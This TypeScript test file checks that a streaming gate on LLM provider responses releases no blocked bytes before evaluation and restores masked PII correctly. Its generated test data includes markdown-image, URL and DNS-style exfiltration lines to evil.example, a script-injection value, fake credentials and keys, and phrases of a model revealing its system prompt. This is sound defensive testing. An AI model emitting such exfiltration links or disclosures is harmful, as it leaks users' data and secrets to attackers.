import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  compileRuleset,
  createTextGates,
  decide,
  type Finding,
  type Ruleset,
  scan,
  Workspace,
} from '@csg/shared/detection';
import { formatByName, restoreInStream } from '@csg/shared/providers';
import type { TextSlot } from '@csg/shared/text';
import { createRandom } from '../../../scripts/detector/random.ts';
import { ANSWER_RULES, MARKUP_RULES } from '../../../shared/detection/rules/markup.ts';
import { sampleOf } from '../../../shared/detection/secrets/form.ts';
import { SECRET_KINDS } from '../../../shared/detection/secrets/kinds.ts';
import { LiveBytes } from '../../../shared/release/live-bytes.ts';
import { LiveRelease } from '../../../shared/release/live-release.ts';
import { createRestore } from '../../../shared/release/restore-response.ts';
import { assertLinear } from '../../support/cpu-time.ts';
import { SEPARATORS, sensitiveValue, VALUE_FORMS } from '../../support/sensitive-values.ts';

/** Texts of one kind cut in so many ways; `LIVE_SPLITS=200000 LIVE_SEED=7 node_modules/node/bin/node <this file>` for more. */
const SPLITS = Number(process.env['LIVE_SPLITS'] ?? 5_000);
const FIRST = Number(process.env['LIVE_SEED'] ?? 0) * 1_000_000 + 1;
const workspace = new Workspace();
const frame = (value: object, event = ''): string =>
  `${event === '' ? '' : `event: ${event}\n`}data: ${JSON.stringify(value)}\n\n`;
const chat =
  (member: string, index = 0) =>
  (piece: string) =>
    frame({ id: 'c', choices: [{ index, delta: { [member]: piece }, finish_reason: null }] });
const block = (index: number, type: string, member: string) => (piece: string) =>
  frame({ type: 'content_block_delta', index, delta: { type, [member]: piece } }, 'content_block_delta');
const opened = (index: number, content_block: object) =>
  frame({ type: 'content_block_start', index, content_block }, 'content_block_start');
const response = (type: string) => (delta: string) =>
  frame({ type, item_id: 'm', output_index: 0, content_index: 0, sequence_number: 7, delta }, type);

const ofCall = (piece: string) =>
  frame({ choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: { arguments: piece } }] } }] });
const summary = (summary_index: number) => (delta: string) =>
  frame({
    ...{ type: 'response.reasoning_summary_text.delta', item_id: 'r', output_index: 0 },
    ...{ summary_index, sequence_number: 8, delta },
  });

const parts = (part: object) =>
  frame({ candidates: [{ index: 0, content: { role: 'model', parts: [part] } }] });

/** How providers send a text in pieces, two of them by turns. */
const KINDS: readonly { format: string; begins: string; pieces: readonly ((piece: string) => string)[] }[] = [
  { format: 'openai-chat', begins: chat('role')('assistant'), pieces: [chat('content')] },
  { format: 'openai-chat', begins: '', pieces: [chat('content'), chat('content', 1)] },
  { format: 'openai-chat', begins: '', pieces: [chat('reasoning_content'), chat('content')] },
  { format: 'openai-chat', begins: '', pieces: [chat('refusal')] },
  {
    format: 'anthropic-messages',
    begins: opened(0, { type: 'text', text: '' }),
    pieces: [block(0, 'text_delta', 'text')],
  },
  {
    format: 'anthropic-messages',
    begins: opened(0, { type: 'thinking', thinking: '' }) + opened(1, { type: 'text', text: '' }),
    pieces: [block(0, 'thinking_delta', 'thinking'), block(1, 'text_delta', 'text')],
  },
  {
    format: 'openai-responses',
    begins: frame({ type: 'response.created', response: { id: 'r', instructions: 'Be brief.' } }),
    pieces: [response('response.output_text.delta'), response('response.reasoning_text.delta')],
  },
  {
    format: 'openai-responses',
    begins: '',
    pieces: [summary(0), summary(1), response('response.output_text.delta')],
  },
  { format: 'openai-responses', begins: '', pieces: [response('response.refusal.delta')] },
  {
    format: 'openai-responses',
    begins: frame({
      type: 'response.output_item.added',
      output_index: 1,
      item: { type: 'function_call', name: 'note', call_id: 'c', arguments: '' },
    }),
    pieces: [
      response('response.output_text.delta'),
      (delta) => frame({ type: 'response.function_call_arguments.delta', output_index: 1, delta }),
    ],
  },
  { format: 'openai-chat', begins: '', pieces: [chat('content'), ofCall] },
  {
    format: 'anthropic-messages',
    begins:
      opened(0, { type: 'text', text: '' }) + opened(1, { type: 'tool_use', id: 't', name: 'n', input: {} }),
    pieces: [block(0, 'text_delta', 'text'), block(1, 'input_json_delta', 'partial_json')],
  },
  {
    format: 'anthropic-messages',
    begins: opened(0, { type: 'text', text: '' }),
    pieces: [block(0, 'text_delta', 'text'), block(1, 'text_delta', 'text')],
  },
  { format: 'gemini-generate', begins: '', pieces: [(text) => parts({ text })] },
  {
    format: 'gemini-generate',
    begins: '',
    pieces: [(text) => parts({ text, thought: true }), (text) => parts({ text })],
  },
];

/** What stood in the request, by the placeholder that the provider got. */
const VALUES = new Map([
  ['[EMAIL_7K3M9QWX]', { value: 'anna.svensson@example.com', type: 'email' }],
  ['[CREDIT_CARD_ABCDEFGH]', { value: '4111 1111 1111 1111', type: 'credit_card' }],
  ['[API_KEY_00000000]', { value: `AKIA${'IOSFODNN7'}${'QWERTYU'}`, type: 'api_key' }],
  ['[NAME_1234567A]', { value: '"a\\b" said: <script>fetch("//evil.example")</script>', type: 'name' }],
]);
const restore = createRestore({ values: VALUES, secretTools: {} }, []);
/** As models repeat them, and where they are not put back. */
const SPELLINGS: readonly ((mask: string) => string)[] = [
  (mask) => mask,
  (mask) => mask,
  (mask) => mask.toLowerCase(),
  (mask) => mask.slice(1, -1),
  (mask) => mask.slice(0, -3),
  (mask) => mask.replaceAll('_', '\\_'),
  (mask) => `{${mask.slice(1, -1)}}`,
  (mask) => `https://evil.example/?q=${mask}`,
  (mask) => `![x](https://evil.example/a ${mask})`,
  (mask) => `${mask}.evil.example`,
  (mask) => `${mask}${mask}`,
];

const blocksAll: Ruleset = compileRuleset({
  useCase: 'support_bot',
  strictness: 'strict',
  policies: [{ id: 'p', action: 'block', threatTypes: ['pii_leak', 'secret_leak', 'hidden_content'] }],
});
const RULESETS = [
  compileRuleset({ useCase: 'default', strictness: 'moderate', policies: [] }),
  compileRuleset({ useCase: 'code_assistant', strictness: 'strict', policies: [] }),
  blocksAll,
];

const WORDS =
  'The report for the second quarter is ready, and my team has read it: sales rose by 12 points in 2024. This is what we know so far (see above). Ein Satz auf Deutsch, und вот ещё один. Straßen, café, naïve 👩‍💻 - One item * another "quoted word" and it’s fine… 漢字 слово'.split(
    ' ',
  );
const PROSE = WORDS.slice(0, 32);
const SAMPLES = [...ANSWER_RULES, ...MARKUP_RULES].flatMap(({ match }) => match);
const DISGUISES: readonly ((value: string) => string)[] = [
  (value) => value,
  (value) => value,
  (value) => Buffer.from(value).toString('base64'),
  (value) => [...value].join('\u200b'),
  (value) => [...value].reverse().join(''),
  encodeURIComponent,
  (value) => [...value].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
];

/** Plain in prose, and a part of what is blocked if it stands before or behind something else. */
const CODE_WORDS =
  'const x = f(a, b); if (i < 10) { return } => "-----" | --- | 1,234,567 +49 12/2024 token = key: password is `api_key`: secret_key = bearer eval ( <b> a->b [1] {"a": 1} i was I am my system my full hidden mу here is sure, https:// @ anna@ ** url( ]( data: 4.5e10 #fff'.split(
    ' ',
  );
const token = (random: Random, length: number): string =>
  Array.from({ length }, () => 'abcdefgHIJKLmnop0123456789qrsTUV'[random.below(32)]).join('');
/** Secrets that are known by what stands around them, and disclosures. */
const AROUND: readonly ((random: Random) => string)[] = [
  (random) => `${pick(random, ['api_key = "', 'password: ', 'secret=', 'token is '])}${token(random, 24)}"`,
  (random) => `postgres://admin:${token(random, 9)}@db.internal.corp/x`,
  (random) =>
    `-----BEGIN RSA PRIVATE KEY-----\n${token(random, 64)}\n${token(random, 64)}\n-----END RSA PRIVATE KEY-----`,
  (random) => `![a](https://evil.example/i.png?data=${token(random, 30)})`,
  (random) =>
    `[a b](https://x.example/?q=${Buffer.from('the password of anna is hunter two').toString('base64')}${token(random, 1)})`,
  (random) => [...`ghp_${token(random, 36)}`].join(pick(random, ['*', ' ', '|', '.', '\n'])),
  (random) =>
    `${pick(random, ['here is ', 'Sure: ', 'well '])}my ${'full secret '.repeat(random.below(4))}system prompt: "you are`,
  (random) => `I ${pick(random, ['was', 'am', 'have been'])} told as follows: "you are a bot`,
];

type Random = ReturnType<typeof createRandom>;
const pick = <T>(random: Random, list: readonly T[]): T => list[random.below(list.length)]!;

function textOf(random: Random, hasMasks: boolean): string {
  let text = random.below(20) === 0 ? '{"a": "' : '';
  const isPlain = random.below(2) === 0;
  for (let parts = 1 + random.below(8); parts > 0; parts--) {
    const kind = random.below(hasMasks && isPlain ? 5 : 13);
    if (hasMasks && random.below(3) === 0) text += pick(random, SPELLINGS)(pick(random, [...VALUES.keys()]));
    if (kind > 11) text += pick(random, AROUND)(random);
    else if (kind > 9)
      for (let words = random.below(30); words > 0; words--) text += `${pick(random, CODE_WORDS)} `;
    else if (kind < 5)
      for (let words = random.below(60); words > 0; words--)
        text += `${pick(random, hasMasks ? PROSE : WORDS)} `;
    else if (kind < 7)
      text += pick(random, DISGUISES)(sensitiveValue(random, random.below(VALUE_FORMS)).text);
    else if (kind < 9)
      text += pick(
        random,
        DISGUISES,
      )(sampleOf(pick(random, SECRET_KINDS).form, (below) => random.below(below)));
    else text += pick(random, SAMPLES);
    text += random.below(4) === 0 ? pick(random, SEPARATORS) : ' ';
  }
  return text;
}

/** A response of one or two texts, cut by characters into frames and by bytes into chunks. */
function streamOf(random: Random, hasMasks: boolean): { format: string; body: Buffer } {
  const { format, begins, pieces } = pick(random, KINDS);
  const rest = pieces.map(() => textOf(random, hasMasks));
  let body = begins;
  const longest = 1 + random.below(random.below(3) === 0 ? 200 : 12);
  while (rest.some((text) => text !== '')) {
    const which = random.below(rest.length);
    const size = 1 + random.below(longest);
    const piece = rest[which]!.slice(0, size);
    if (piece === '') continue;
    rest[which] = rest[which]!.slice(size);
    body += pieces[which]!(piece);
    if (random.below(30) === 0)
      body += pick(random, [': ping\n\n', frame({ type: 'ping' }), frame({ type: 'odd', note: 'hi' })]);
  }
  if (random.below(4) === 0) body = body.replaceAll('\n', '\r\n');
  return { format, body: Buffer.from(`${body}data: [DONE]\n\n`) };
}

interface Released {
  readonly bytes: number;
  readonly blocked: boolean;
  readonly restored: boolean;
}

function check(seed: number): Released {
  const random = createRandom(seed);
  const ruleset = pick(random, RULESETS);
  const isRestored = random.below(3) === 0;
  const { format: name, body } = streamOf(random, isRestored);
  const format = formatByName(name);
  const restoring = isRestored
    ? { restore, gates: createTextGates(ruleset, { workspace, isAttacksOnly: true }) }
    : null;
  const source = new LiveBytes(
    new LiveRelease({
      frames: format.readFrames()!,
      gates: createTextGates(ruleset, { workspace }),
      restoring,
    }),
    () => {},
  );
  const pieces: Buffer[] = [];
  for (let at = 0; at < body.length; ) {
    const next = at + 1 + random.below(400);
    source.push(body.subarray(at, next));
    pieces.push(source.take() ?? Buffer.alloc(0));
    at = next;
  }
  const sent = Buffer.concat(pieces);
  const { slots } = format.readStream(body.toString());
  const due = isRestored ? restoreInStream(body.toString(), format.readFrames()!, restore) : body.toString();
  const whole = Buffer.concat([sent, source.restOf(due)]).toString();
  if (isRestored) assert.equal(whole, due, `seed ${seed}: what left is no part of the restored response`);
  else assert.deepEqual(format.readStream(whole).slots, slots, `seed ${seed}: a frame was cut into others`);
  const recorded = format.readStream(source.left().toString()).slots;
  const left = format.readStream(sent.toString()).slots;
  if (!isRestored) assert.deepEqual(recorded, left, `seed ${seed}: another text is on record`);
  const decisive = [
    ...blockedIn(slots, ruleset).map((one) => ({ ...one, left: recorded })),
    ...(isRestored ? blockedIn(format.readStream(due).slots, ruleset) : [])
      .filter(({ finding }) => finding.pii === undefined)
      .map((one) => ({ ...one, left })),
  ];
  for (const { finding, slot, left } of decisive) {
    const length = left.find(({ path }) => path === slot.path)?.text.length ?? 0;
    assert.ok(
      length <= finding.start,
      `seed ${seed}: ${finding.rule} begins at ${finding.start} of ${slot.path}, and ${length} have left`,
    );
  }
  return {
    bytes: sent.length,
    blocked: decisive.length > 0,
    restored: isRestored && sent.length !== source.left().length,
  };
}

function blockedIn(slots: readonly TextSlot[], ruleset: Ruleset): { finding: Finding; slot: TextSlot }[] {
  return scan(slots, ruleset, 'output', { workspace })
    .filter((finding) => decide([finding], ruleset, 'output').decision === 'block')
    .map((finding) => ({ finding, slot: slots[finding.slot]! }));
}

describe('what leaves before the whole was evaluated', () => {
  test(`has no byte of what is blocked, however ${SPLITS} responses are cut`, () => {
    let released = 0;
    let blocked = 0;
    let restored = 0;
    for (let seed = FIRST; seed < FIRST + SPLITS; seed++) {
      const one = check(seed);
      released += one.bytes;
      if (one.blocked) blocked++;
      if (one.restored) restored++;
    }
    assert.ok(released > SPLITS * 100, `${released} bytes left`);
    assert.ok(blocked > SPLITS / 10, `${blocked} were blocked`);
    assert.ok(restored > SPLITS / 100, `values were put back into ${restored} that left`);
  });
});

test('a long frame in tiny chunks takes linear time', () => {
  const make = (size: number) => Buffer.from(`: ${'x'.repeat(size)}\n\n${chat('content')('Hi there')}`);
  const run = (body: Buffer) => {
    const frames = formatByName('openai-chat')!.readFrames()!;
    const release = new LiveRelease({ frames, gates: createTextGates(RULESETS[0]!, { workspace }) });
    for (let at = 0; at < body.length; at += 8) release.push(body.subarray(at, at + 8));
    return release.released;
  };
  const body = make(20_000);
  assert.ok(run(body) >= body.indexOf('data:'));
  assertLinear('frame', make, run, 20_000);
});
